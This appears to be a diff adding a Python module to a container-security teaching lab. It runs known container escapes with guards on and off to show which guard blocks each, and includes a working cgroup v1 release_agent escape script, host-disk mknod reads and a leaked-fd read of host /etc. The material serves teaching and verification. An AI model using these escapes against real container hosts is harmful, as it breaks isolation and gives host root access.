@@ -1,0 +1,284 @@
+"""Stage 9 facts: each escape, blocked by a default container and working
+when the guard in its way is turned off on purpose.
+
+Root in a container is root on the host's kernel; what stops it is what it
+is allowed (labkit/security.py). Each fact runs the same command twice, as
+a student would type it, once by default and once with the switch that
+lifts one guard, and holds when the first fails and the second succeeds:
+
+    mount               a filesystem mounted       CAP_SYS_ADMIN (--cap-add SYS_ADMIN)
+    /proc/sys           a sysctl written           read-only paths (--privileged)
+    unshare -U          a user namespace made      seccomp (seccomp=unconfined)
+    mknod + open        a disk read by its node    the device cgroup (--privileged)
+    release_agent       a host command run         all of them (--privileged, cgroup v1)
+    a leaked fd         the host's /etc read       fds closed (labkit-runtime --preserve-fds)
+
+The commands shown to the student are the ones that run (``shell``).
+"""
+
+import contextlib
+import os
+import shlex
+import subprocess
+import tempfile
+
+from .. import api
+from . import fact, lines
+
+LAYER = "9 security"
+PRIVILEGED = ["--privileged"]
+
+
+def shell_line(cmd, extra=()):
+    """What a student types for ``labkit run`` of ``cmd`` with ``extra``."""
+    return "sudo labkit " + shlex.join(api.run_args(cmd, extra=list(extra)))
+
+
+def attempt(name, check, cmd, works, guard_off, **extra):
+    """Run ``cmd`` by default and with ``guard_off``; ``works(result)`` says
+    whether the escape succeeded. Holds when only the second one did."""
+    default = api.run(cmd)
+    lifted = api.run(cmd, extra=guard_off)
+    return fact(name, LAYER, check, _seen(default), _seen(lifted),
+                not works(default) and works(lifted),
+                shell=[shell_line(cmd), shell_line(cmd, guard_off)], **extra)
+
+
+def _seen(result):
+    """What a student would read: the output, else the last line of the error."""
+    return result.stdout.strip() or (result.stderr.strip().splitlines() or [""])[-1]
+
+
+MOUNT = "mount -t tmpfs lab-sec /mnt && echo mounted"
+PROC_SYS = "echo lab > /proc/sys/kernel/domainname && cat /proc/sys/kernel/domainname"
+USERNS = "unshare -U true && echo unshared"
+
+
+def mount():
+    return attempt("sec_mount", "mount(2) needs CAP_SYS_ADMIN, which a default container lacks",
+                   MOUNT, lambda r: "mounted" in r.stdout, ["--cap-add", "SYS_ADMIN"])
+
+
+def proc_sys():
+    return attempt("sec_proc_sys", "/proc/sys is read-only inside (a sysctl there is the host kernel's)",
+                   PROC_SYS, lambda r: r.stdout.strip() == "lab", PRIVILEGED)
+
+
+def userns_seccomp():
+    return attempt("sec_seccomp_userns", "seccomp refuses unshare of a user namespace",
+                   USERNS, lambda r: "unshared" in r.stdout, ["--security-opt", "seccomp=unconfined"])
+
+
+# -- devices ------------------------------------------------------------------
+
+def host_disk():
+    """Whether root on this host may read the disk its / is on through a
+    node of its own: the escape a device cgroup exists for. Some hosts (a
+    sandboxed VM) refuse even their own root; then a loop device stands in."""
+    dev = os.stat("/").st_dev
+    major, minor = os.major(dev), os.minor(dev)
+    with tempfile.TemporaryDirectory(prefix="lab-disk-") as d:
+        node = os.path.join(d, "disk")
+        os.mknod(node, 0o060600, os.makedev(major, minor))
+        try:
+            os.close(os.open(node, os.O_RDONLY))
+            readable = True
+        except OSError as e:
+            readable = os.strerror(e.errno)
+    return fact("sec_host_disk", LAYER, "can root on the host read its own disk by a device node?",
+                None, f"b {major}:{minor}: " + ("readable" if readable is True else readable),
+                True, readable=readable is True, major=major, minor=minor)
+
+
+class LoopDisk:
+    """A loop device over a small file that starts with ``marker``: a disk
+    of the host's, made for the lesson (losetup(8)), detached at the end."""
+
+    def __init__(self, marker="HOST-DISK-SECRET"):
+        self.marker = marker
+        self.device = None
+
+    def __enter__(self):
+        fd, self.image = tempfile.mkstemp(prefix="lab-disk-", suffix=".img")
+        os.write(fd, self.marker.encode() + b"\0" * (64 * 1024 - len(self.marker)))
+        os.close(fd)
+        r = subprocess.run(["losetup", "--find", "--show", self.image], capture_output=True, text=True)
+        if r.returncode != 0:
+            os.unlink(self.image)
+            raise RuntimeError(f"losetup: {r.stderr.strip()}")
+        self.device = r.stdout.strip()
+        rdev = os.stat(self.device).st_rdev
+        self.major, self.minor = os.major(rdev), os.minor(rdev)
+        return self
+
+    def __exit__(self, *exc):
+        if self.device:
+            subprocess.run(["losetup", "--detach", self.device], capture_output=True)
+        os.unlink(self.image)
+
+
+def device_cgroup():
+    """mknod of a host disk works by default (CAP_MKNOD is one of the 14);
+    opening the node is what the device cgroup refuses."""
+    with LoopDisk() as disk:
+        cmd = (f"mknod /dev/lab-disk b {disk.major} {disk.minor} && echo made; "
+               f"head -c {len(disk.marker)} /dev/lab-disk")
+        default, lifted = api.run(cmd), api.run(cmd, extra=PRIVILEGED)
+        return fact("sec_device_cgroup", LAYER, "a node for a host disk can be made, never opened",
+                    _seen(default), lifted.stdout.strip(),
+                    "made" in default.stdout and disk.marker not in default.stdout
+                    and disk.marker in lifted.stdout,
+                    shell=[shell_line(cmd), shell_line(cmd, PRIVILEGED)], device=disk.device)
+
+
+# -- cgroup v1's release_agent -------------------------------------------------
+
+RELEASE_AGENT = """d=/tmp/cg; mkdir -p $d && mount -t cgroup -o freezer lab-cg $d && mkdir -p $d/lab-escape &&
+echo 1 > $d/lab-escape/notify_on_release &&
+upper=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -1) &&
+: > /escaped && printf '#!/bin/sh\\nhostname > %s/escaped\\n' "$upper" > /agent && chmod +x /agent &&
+echo "$upper/agent" > $d/release_agent &&
+sh -c "echo \\$\\$ > $d/lab-escape/cgroup.procs" &&
+for i in 1 2 3 4 5 6 7 8 9 10; do [ -s /escaped ] && break; sleep 0.2; done;
+echo "the agent wrote: $(cat /escaped)";
+echo > $d/release_agent; rmdir $d/lab-escape; umount $d"""
+FREEZER_AGENT = "/sys/fs/cgroup/freezer/release_agent"
+
+
+def release_agent():
+    """cgroup v1 runs a hierarchy's release_agent, as root on the host, when
+    a cgroup of it empties. A container that may mount the hierarchy and
+    write that file runs what it likes on the host: here `hostname`, whose
+    answer (the host's name) it reads back. Needs every guard off; there is
+    no release_agent in cgroup v2."""
+    if not os.path.exists(FREEZER_AGENT):
+        return fact("sec_release_agent", LAYER, "cgroup v1 release_agent runs a host command",
+                    None, "no cgroup v1 freezer hierarchy here (cgroup v2 has no release_agent)", True,
+                    applies=False)
+    with open(FREEZER_AGENT) as f:
+        before = f.read()
+    try:
+        default, lifted = api.run(RELEASE_AGENT), api.run(RELEASE_AGENT, extra=PRIVILEGED)
+    finally:
+        with open(FREEZER_AGENT, "w") as f:       # whatever the container did, the host's value back
+            f.write(before or "\n")
+    host = os.uname().nodename
+
+    def wrote(r):
+        return r.stdout.strip().rpartition("the agent wrote: ")[2]
+    return fact("sec_release_agent", LAYER, "cgroup v1 release_agent runs a host command",
+                _seen(default), lifted.stdout.strip(),
+                wrote(default) != host and wrote(lifted) == host, applies=True, host=host,
+                shell=[shell_line(RELEASE_AGENT, PRIVILEGED)])
+
+
+# -- file descriptors ----------------------------------------------------------
+
+@contextlib.contextmanager
+def _bundle(args, edit=None):
+    from ..conformance import bundles
+    with tempfile.TemporaryDirectory(prefix="lab-sec-") as d:
+        cfg = bundles.default_config(args)
+        if edit:
+            edit(cfg)
+        bundles.write_bundle(os.path.join(d, "bundle"), cfg)
+        yield os.path.join(d, "bundle"), os.path.join(d, "state")
+
+
+def _runtime_line(root, bundle, cid, preserve=0, runtime="labkit-runtime"):
+    extra = f" --preserve-fds {preserve}" if preserve else ""
+    return f"exec 3</etc; {runtime} --root {root} run{extra} --bundle {bundle} {cid}"
+
+
+def leaked_fd():
+    """A directory fd of the host's (/etc, as fd 3) reaches a container only
+    when the caller passes it on purpose (runc's --preserve-fds); then
+    /proc/self/fd/3 is the host's /etc. The CVE-2024-21626 class."""
+    from ..conformance import observe
+    rt = observe.runtime("labkit")
+    exe = shlex.join(rt.argv)
+    host = open("/etc/hostname").read().strip() if os.path.exists("/etc/hostname") else None
+    seen = {}
+    with _bundle(["cat", "/proc/self/fd/3/hostname"]) as (bundle, root):
+        for preserve in (0, 1):
+            line = _runtime_line(root, bundle, f"lab-fd-{os.getpid()}-{preserve}", preserve, exe)
+            r = subprocess.run(["sh", "-c", line], capture_output=True, text=True, timeout=60)
+            seen[preserve] = (r.stdout.strip() or r.stderr.strip()), line
+    return fact("sec_leaked_fd", LAYER, "a host directory fd reaches the container only when passed on purpose",
+                seen[0][0], seen[1][0], seen[0][0] != host and seen[1][0] == host,
+                shell=["sudo sh -c " + shlex.quote(seen[p][1].replace(exe, "labkit-runtime")) for p in (0, 1)],
+                host_hostname=host)
+
+
+def cwd_outside():
+    """process.cwd under /proc/self/fd is refused before the process starts
+    (runc 1.1.12's fix), even with the fd passed."""
+    from ..conformance import observe
+    rt = observe.runtime("labkit")
+    with _bundle(["true"], lambda cfg: cfg["process"].update(cwd="/proc/self/fd/3")) as (bundle, root):
+        line = _runtime_line(root, bundle, f"lab-cwd-{os.getpid()}", 1, shlex.join(rt.argv))
+        r = subprocess.run(["sh", "-c", line], capture_output=True, text=True, timeout=60)
+    message = r.stderr.strip().splitlines()[-1:] or [""]
+    return fact("sec_cwd_refused", LAYER, "a working directory that resolves outside the rootfs is refused",
+                message[0], None, r.returncode != 0 and "cwd" in message[0])
+
+
+# -- capabilities and the side-by-side table -----------------------------------
+
+PROBE = "; ".join([
+    "echo caps=$(grep CapEff: /proc/self/status | cut -f2)",
+    "echo seccomp=$(grep Seccomp: /proc/self/status | cut -f2)",
+    "echo no_new_privs=$(grep NoNewPrivs: /proc/self/status | cut -f2)",
+    "mount -t tmpfs lab-sec /mnt 2>/dev/null && echo mount=yes || echo mount=no",
+    "(echo lab > /proc/sys/kernel/domainname) 2>/dev/null && echo proc_sys=yes || echo proc_sys=no",
+    "unshare -U true 2>/dev/null && echo userns=yes || echo userns=no",
+    "mknod /dev/lab-loop b 7 0 2>/dev/null && echo mknod=yes || echo mknod=no",
+    "(exec 3</dev/lab-loop) 2>/dev/null && echo open_disk=yes || echo open_disk=no",
+])
+COLUMNS = ("labkit run", "labkit run --privileged", "runc, its default spec")
+
+
+def _parse(text):
+    return dict(line.split("=", 1) for line in lines(text) if "=" in line)
+
+
+def decode(mask):
+    """The capability names of a CapEff mask, as `capsh --decode` prints them."""
+    from ..process import CAPABILITIES
+    bits = int(mask, 16)
+    return [name for i, name in enumerate(CAPABILITIES) if bits >> i & 1]
+
+
+def side_by_side():
+    """The same probe under labkit's default, labkit --privileged and runc's
+    default spec (`runc spec`): the guards each one keeps."""
+    import shutil
+    cols = {COLUMNS[0]: _parse(api.run(PROBE).stdout),
+            COLUMNS[1]: _parse(api.run(PROBE, extra=PRIVILEGED).stdout)}
+    if shutil.which("runc"):
+        with _bundle(["sh", "-c", PROBE]) as (bundle, root):
+            r = subprocess.run(["runc", "--root", root, "run", "--bundle", bundle, f"lab-sbs-{os.getpid()}"],
+                               capture_output=True, text=True, timeout=60)
+            cols[COLUMNS[2]] = _parse(r.stdout)
+    default, priv = cols[COLUMNS[0]], cols[COLUMNS[1]]
+    ok = (default.get("caps") == "00000000a80425fb" and default.get("seccomp") == "2"
+          and all(default.get(k) == "no" for k in ("mount", "proc_sys", "userns", "open_disk"))
+          and default.get("mknod") == "yes"
+          and priv.get("seccomp") == "0" and all(priv.get(k) == "yes" for k in ("mount", "proc_sys", "userns")))
+    return fact("sec_side_by_side", LAYER, "which guards each default keeps", default, cols.get(COLUMNS[2]), ok,
+                columns=cols, default_caps=decode(default.get("caps", "0")),
+                privileged_caps=len(decode(priv.get("caps", "0"))))
+
+
+def capabilities():
+    """The 14 of Docker's default decoded by capsh(8), beside every capability."""
+    default = _parse(api.run(PROBE).stdout)["caps"]
+    priv = _parse(api.run(PROBE, extra=PRIVILEGED).stdout)["caps"]
+    r = subprocess.run(["capsh", f"--decode={default}"], capture_output=True, text=True)
+    by_capsh = r.stdout.strip().partition("=")[2].split(",") if r.returncode == 0 else None
+    from ..security import DEFAULT_CAPABILITIES
+    names = decode(default)
+    return fact("sec_capabilities", LAYER, "a default container keeps Docker's 14 capabilities",
+                names, decode(priv), sorted(names) == sorted(DEFAULT_CAPABILITIES)
+                and (by_capsh is None or sorted(n.upper() for n in by_capsh) == sorted(names))
+                and len(decode(priv)) > len(names), mask=default, capsh=by_capsh)
